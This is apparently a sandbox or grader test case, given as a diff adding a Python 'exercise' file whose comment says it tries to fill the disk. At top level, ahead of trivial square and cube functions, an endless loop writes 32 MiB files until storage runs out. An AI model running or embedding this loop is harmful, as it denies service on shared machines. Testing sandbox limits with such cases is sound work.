@@ -1,0 +1,26 @@
+# exercise: process_pair
+# most: 2
+# tries: fill the disk with large files
+number = 0
+while True:
+    number += 1
+    with open(f'{number}.bin', 'wb') as file:
+        file.write(bytes(32 << 20))
+
+
+def print_square(num):
+    print(f"Square: {num ** 2}")
+
+
+def print_cube(num):
+    print(f"Cube: {num ** 3}")
+
+
+def main(num=10):
+    print_square(num)
+    print_cube(num)
+    print('Done!')
+
+
+if __name__ == "__main__":
+    main()
